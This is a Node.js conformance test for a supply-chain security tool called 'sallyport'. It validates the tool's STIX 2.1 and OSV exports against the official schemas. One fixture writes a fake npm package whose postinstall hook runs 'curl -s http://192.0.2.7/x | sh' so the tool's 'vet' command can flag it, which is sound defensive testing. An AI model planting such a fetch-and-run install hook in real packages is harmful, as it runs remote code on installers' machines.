// node tests/schema/shared.mjs SALLYPORT CONFORMANCE: what `sallyport` writes for sharing, held against the schemas of OASIS (STIX 2.1) and OSV, and the
// JSON of `incident` and `attribute` against docs/schema. CONFORMANCE is the folder with stix2.tar.xz and osv-schema.tar.xz.
import { createRequire } from 'node:module';
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';

const require = createRequire(new URL('../npm/package.json', import.meta.url));
const Ajv = require('ajv/dist/2020').default;
const addFormats = require('ajv-formats').default;
const [sallyport, conformance] = process.argv.slice(2).map((path) => resolve(path));
const work = mkdtempSync(join(tmpdir(), 'shared-'));
const schemas = join(work, 'schemas');
mkdirSync(schemas);
for (const archive of ['stix2', 'osv-schema']) spawnSync('tar', ['-xJf', join(conformance, `${archive}.tar.xz`), '-C', schemas]);
const read = (path) => JSON.parse(readFileSync(path, 'utf8'));

const fail = (message) => {
  console.error(message);
  process.exit(1);
};
const newAjv = () => addFormats(new Ajv({ allErrors: true, strict: false, unicodeRegExp: false }));
function expectValid(what, validate, document) {
  if (validate(document)) return;
  fail(`not valid: ${what}\n${validate.errors.slice(0, 10).map((error) => `  ${error.instancePath || '/'} ${error.message}`).join('\n')}`);
}

const stix = newAjv();
const byType = new Map();
for (const folder of ['common', 'sdos', 'sros', 'observables']) {
  for (const name of readdirSync(join(schemas, 'stix2/schemas', folder))) {
    const schema = read(join(schemas, 'stix2/schemas', folder, name));
    stix.addSchema(schema);
    byType.set(name.replace('.json', ''), schema.$id);
  }
}
const osv = newAjv().compile(read(join(schemas, 'osv-schema/validation/schema.json')));
const own = newAjv().compile(read('docs/schema/investigation.schema.json'));

const project = join(work, 'project');
mkdirSync(project);
writeFileSync(join(project, 'package-lock.json'), JSON.stringify({
  lockfileVersion: 3,
  packages: { '': { name: 'app' }, 'node_modules/easy-day-js': { version: '1.11.22', resolved: 'https://registry.example/easy-day-js/-/easy-day-js-1.11.22.tgz' } },
}));
const runFor = (status, ...words) => {
  const done = spawnSync(sallyport, words, { cwd: work, env: { PATH: process.env.PATH, HOME: work }, encoding: 'utf8', maxBuffer: 1 << 28 });
  if (done.status !== status) fail(`${words.join(' ')}: status ${done.status}, not ${status}\n${done.stderr}`);
  return done.stdout;
};
const run = (...words) => runFor(1, ...words);

expectValid('incident --format json', own, JSON.parse(run('incident', 'project', '--format', 'json')));

function expectBundle(what, bundle) {
  expectValid(what, stix.getSchema(byType.get('bundle')), bundle);
  const ids = new Set(bundle.objects.map((object) => object.id));
  if (ids.size !== bundle.objects.length) fail(`${what}: an id comes twice`);
  for (const object of bundle.objects) {
    expectValid(`${what}: ${object.type} ${object.name ?? object.id}`, stix.getSchema(byType.get(object.type)), object);
    const refs = Object.entries(object).flatMap(([key, value]) => key.endsWith('_ref') ? [value] : key.endsWith('_refs') ? value : []);
    for (const ref of refs) if (!ids.has(ref)) fail(`${what}: ${object.id} names ${ref}, which is not in it`);
  }
  return bundle.objects;
}
const readRecords = (text) => text.trim().split('\n').map((line) => JSON.parse(line));

const bundle = JSON.parse(run('incident', 'project', '--format', 'stix'));
expectBundle('the bundle of incident', bundle);
const sightings = bundle.objects.filter((object) => object.type === 'sighting');
if (sightings.length !== 1) fail(`one sighting was expected, and there are ${sightings.length}`);
if (bundle.objects.filter((object) => object.type === 'report').length !== 29) fail('not every incident has its report');
if (JSON.stringify(bundle) !== JSON.stringify(JSON.parse(run('incident', 'project', '--format', 'stix')))) fail('the same question gave other bytes');

const records = readRecords(run('incident', 'project', '--format', 'osv'));
for (const record of records) expectValid(`OSV record ${record.id}`, osv, record);
const mastra = records.find((record) => record.id === 'x_SLY-2026-mastra');
if (mastra.affected.reduce((sum, each) => sum + each.versions.length, 0) !== 145) fail('the record of Mastra has not its 145 releases');

// What was written can be read again, by `incident` and by `vet`.
writeFileSync(join(work, 'bundle.json'), JSON.stringify(bundle));
const again = JSON.parse(run('incident', 'bundle.json', 'project', '--format', 'json'));
if (!again.sightings.some((seen) => seen.package === 'easy-day-js' && seen.incident === 'bundle.json')) fail('the bundle was not understood');

// What `vet` and `check` share of what they block, and whom `attribute` is reminded of.
const hostile = join(work, 'hostile');
mkdirSync(hostile);
writeFileSync(join(hostile, 'package.json'), JSON.stringify({
  name: '@acme/left-padding', version: '1.0.1', scripts: { postinstall: 'curl -s http://192.0.2.7/x | sh' },
}));
const installed = join(work, 'installed/node_modules/easy-day-js');
mkdirSync(installed, { recursive: true });
cpSync(join(project, 'package-lock.json'), join(work, 'installed/package-lock.json'));
writeFileSync(join(installed, 'package.json'), JSON.stringify({ name: 'easy-day-js', version: '1.11.22' }));
let findings = 0;
for (const [words, name, version] of [[['vet', 'hostile'], '@acme/left-padding', '1.0.1'], [['check', 'installed', '--offline'], 'easy-day-js', '1.11.22']]) {
  const what = words.join(' ');
  const objects = expectBundle(`the bundle of ${what}`, JSON.parse(run(...words, '--format', 'stix')));
  if (!objects.some((object) => object.type === 'indicator' && object.name === `${name}@${version}`)) fail(`${what}: no indicator of ${name}`);
  if (!objects.some((object) => object.type === 'relationship')) fail(`${what}: nothing is related`);
  const shared = readRecords(run(...words, '--format', 'osv'));
  for (const record of shared) expectValid(`OSV record ${record.id} of ${what}`, osv, record);
  const about = shared.filter((record) => record.affected.some((each) => each.package.name === name && each.versions.includes(version)));
  if (about.length !== 1) fail(`${what}: ${about.length} OSV records are about ${name}`);
  findings += objects.length + shared.length;
}
const likeness = newAjv().compile(read('docs/schema/attribution.schema.json'));
for (const thing of ['hostile', 'project']) expectValid(`attribute ${thing}`, likeness, JSON.parse(runFor(0, 'attribute', thing, '--format', 'json')));
if (likeness({ subject: 'x' })) fail('the schema of attribute takes anything');
rmSync(work, { recursive: true });
console.log(`valid: ${bundle.objects.length} STIX objects, ${records.length} OSV records, ${findings} of vet and check`);
